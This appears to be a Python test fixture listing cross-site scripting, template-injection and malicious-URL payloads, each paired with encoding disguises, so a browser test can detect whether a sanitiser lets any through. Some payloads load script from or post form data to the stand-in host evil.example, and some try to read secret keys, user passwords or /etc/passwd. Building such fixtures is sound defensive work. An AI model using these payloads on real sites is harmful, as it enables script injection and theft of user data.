"""What an attacker sends: some hundred pieces of markup and URLs, and the ways to write each of them differently.

Everything that would run calls `alert`, so that a browser can be asked whether anything did.
"""

import html
from urllib.parse import quote

CODE = "alert(1)"

ELEMENTS = [
    f"<script>{CODE}</script>",
    f"<script src=//evil.example/x.js>{CODE}</script>",
    f"<script type=module>{CODE}</script>",
    f"<script/x>{CODE}</script>",
    f"<script\n>{CODE}</script\n>",
    f"</script><script>{CODE}</script>",
    f"</textarea><script>{CODE}</script>",
    f"</title><script>{CODE}</script>",
    f"</style><script>{CODE}</script>",
    f"--><script>{CODE}</script>",
    f"]]><script>{CODE}</script>",
    f"<!--><img src=x onerror={CODE}>",
    f"<![CDATA[<img src=x onerror={CODE}>]]>",
    f"<?xml-stylesheet href='javascript:{CODE}'?>",
    f"<img src=x onerror={CODE}>",
    f"<img src=x onerror='{CODE}'",
    f"<img/src/onerror={CODE}>",
    f"<img\tsrc=x\tonerror={CODE}>",
    f"<img\x0csrc=x\x0conerror={CODE}>",
    f"<img src=x onerror\n=\n{CODE}>",
    f"<img src='x'onerror={CODE}>",
    f'<img src="x`" onerror="{CODE}">',
    f"<img srcset=x onerror={CODE}>",
    f"<img src=javascript:{CODE}>",
    "<img src=//evil.example/seen.gif>",
    f"<image href=x onerror={CODE}>",
    f"<svg onload={CODE}>",
    f"<svg/onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><script href='data:,{CODE}' /></svg>",
    f"<svg><a xlink:href='javascript:{CODE}'><text y=20>go</text></a></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{CODE}>",
    f"<svg><foreignObject><img src=x onerror={CODE}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CODE}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CODE}>",
    f"<math href='javascript:{CODE}'>go</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CODE}>go",
    f"<a href=javascript:{CODE}>go</a>",
    f"<a href='x' onclick={CODE} onmouseover={CODE}>go</a>",
    f"<a href=x onfocus={CODE} autofocus tabindex=1>go",
    f"<body onload={CODE}>",
    f"<body onpageshow={CODE}>",
    f"<html onmouseover={CODE}>",
    f"<frameset onload={CODE}><frame src=javascript:{CODE}>",
    f"<iframe src=javascript:{CODE}></iframe>",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    f"<iframe src='data:text/html,<script>{CODE}</script>'>",
    f"<object data=javascript:{CODE}></object>",
    f"<embed src=javascript:{CODE}>",
    "<base href=//evil.example/>",
    f"<base href=javascript:{CODE}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<link rel=import href='data:text/html,<script>{CODE}</script>'>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<style>*{{background:url(javascript:{CODE})}}</style>",
    f"<p style='background:url(javascript:{CODE})'>",
    f"<div style='width:expression({CODE})'>",
    f"<form action=javascript:{CODE}><button>go</button></form>",
    f"<form><button formaction=javascript:{CODE}>go</button></form>",
    "</form><form action=//evil.example/ method=post><input name=name><button>Send</button>",
    f"<input onfocus={CODE} autofocus>",
    f"<input type=image src=x onerror={CODE}>",
    f"<textarea onfocus={CODE} autofocus>",
    f"<select onfocus={CODE} autofocus>",
    f"<keygen onfocus={CODE} autofocus>",
    f"<details open ontoggle={CODE}><summary>go</summary></details>",
    f"<dialog open onclose={CODE}>",
    f"<video src=x onerror={CODE}></video>",
    f"<video><source onerror={CODE}></video>",
    f"<video poster=javascript:{CODE}>",
    f"<audio src=x onerror={CODE}></audio>",
    f"<marquee onstart={CODE}>go</marquee>",
    f"<table background=javascript:{CODE}><tr><td>",
    f"<isindex type=image src=x onerror={CODE}>",
    f"<x onclick={CODE} contenteditable onblur={CODE} id=x tabindex=1 onfocus={CODE}>",
    f"<template shadowrootmode=open><script>{CODE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={CODE}>'>",
    f"<plaintext><img src=x onerror={CODE}>",
    f"<<script>{CODE};//<</script>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<sc\x00ript>{CODE}</sc\x00ript>",
    f"<im\u200bg src=x onerror={CODE}>",
    "<div data-desk data-desk-keys=on><a data-desk-key=a href=//evil.example/>go</a></div>",
    f"<div data-controller=w-init data-action='click->w-init#x' onclick={CODE}>",
    "<a id=comments name=comments>one</a><a id=comment-form>two</a>",
    "<p class=desk-line role=status>Approved.</p>",
]

BREAKOUTS = [
    f"' onmouseover={CODE} x='",
    f'" onmouseover={CODE} x="',
    f'" autofocus onfocus={CODE} x="',
    f"'\"><img src=x onerror={CODE}>",
    f'"/><svg onload={CODE}>',
    f"` onmouseover={CODE} ",
    f' onmouseover="{CODE}" ',
    f'\\" onmouseover={CODE} x=\\"',
    f"\\';{CODE};//",
    f"';{CODE};//",
    f'";{CODE};//',
    f"${{{CODE}}}",
    f"`${{{CODE}}}`",
    f"\u2028{CODE}//",
]

TEMPLATES = [
    "{{ 7|add:7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "{% endblock %}{% include 'admin/base.html' %}",
    "{# comment #}{{ request.user.password }}",
    "%(name)s %s %d {0} {name} {name.__class__}",
    "&{alert(1)};",
    "[[${7*7}]] #{7*7} <%= 7*7 %>",
]

URLS = [
    f"javascript:{CODE}",
    f"javascript://x.example/%0a{CODE}",
    f"java\tscript:{CODE}",
    f"java\nscript:{CODE}",
    f"java\x00script:{CODE}",
    f"java\u200bscript:{CODE}",
    f" \x01javascript:{CODE}",
    f"\x19javascript:{CODE}",
    f"javascript\t:{CODE}",
    f"javascript&colon;{CODE}",
    f"&#106;avascript:{CODE}",
    f"feed:javascript:{CODE}",
    f"view-source:javascript:{CODE}",
    f"vbscript:{CODE}",
    f"vb\tscript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    f"data:text/html;base64,{CODE}",
    f"data:image/svg+xml,<svg onload={CODE}>",
    f"blob:http://x.example/{CODE}",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\evil.example\\x",
    "https:evil.example",
    f'http://x.example/"onmouseover={CODE}',
    f"http://x.example/'onmouseover={CODE}",
    f"http://x.example/><img src=x onerror={CODE}>",
    f"http://x.example/`onmouseover={CODE}",
    f"http://x.example/&quot;onmouseover={CODE}",
    f"http://javascript:{CODE}@x.example/",
    f"http://[x]/javascript:{CODE}",
    f"https://x.example/#javascript:{CODE}",
    f"https://x.example/?next=javascript:{CODE}",
    "http://\u0440\u0430ypal.example/",
    "http://x.example/\u202egpj.exe",
    f"http://http://x.example/<script>{CODE}</script>",
    f"mailto:a@x.example?body=<script>{CODE}</script>",
    f'mailto:"onclick={CODE}"@x.example',
    f"mailto:javascript:{CODE}@x.example",
    f"[go](javascript:{CODE})",
    f"[go](http://x.example 'onmouseover={CODE}')",
    f"![x](javascript:{CODE})",
    f'![" onerror="{CODE}](http://x.example/x.png)',
    f"<javascript:{CODE}>",
    f"[url=javascript:{CODE}]go[/url]",
    f"[x]: javascript:{CODE}",
    f"> <img src=x onerror={CODE}>",
    f'>http://x.example/ "onclick={CODE}',
]

# Each writes the same thing differently.
DISGUISES = [
    str.upper,
    str.swapcase,
    lambda vector: "".join(c.upper() if place % 2 else c for place, c in enumerate(vector)),
    html.escape,
    lambda vector: html.escape(html.escape(vector)),
    lambda vector: "".join(f"&#{ord(c)}" for c in vector),
    lambda vector: "".join(f"&#x{ord(c):07x};" for c in vector),
    quote,
    lambda vector: vector.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda vector: vector.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda vector: vector.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda vector: vector.replace("<", "\u2039").replace(">", "\u203a"),
    lambda vector: vector.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda vector: vector.replace("<", "\u0001<").replace("=", "\x0b="),
    lambda vector: vector.replace("script", "scr\u00adipt").replace("on", "o\u200dn"),
    lambda vector: "A" * 3000 + vector,
    lambda vector: "<b>" * 400 + vector,
    lambda vector: "\U0001f600" * 50 + vector + "\u0301" * 20,
    lambda vector: f"\u202e{vector}\u202c",
    lambda vector: f"{vector}\r\n\r\n{vector}",
]


def _all() -> list[str]:
    plain = [*ELEMENTS, *BREAKOUTS, *TEMPLATES, *URLS]
    # Every plain one as it is and in one disguise; each disguise meets every kind.
    disguised = [DISGUISES[place % len(DISGUISES)](vector) for place, vector in enumerate(plain)]
    return list(dict.fromkeys([*plain, *disguised]))


VECTORS = _all()


def short(vector: str, most: int) -> str:
    """`vector`, or where it is too long for a field the end of it: there its point is."""
    return vector[-most:]


def email_with(vector: str) -> str:
    """An email address that is a valid one and carries as much of `vector` as such an address can."""
    kept = "".join(c for c in vector if c.isascii() and c.isprintable() and c not in ' "\\')
    return f'"{kept[-60:]}"@example.org'
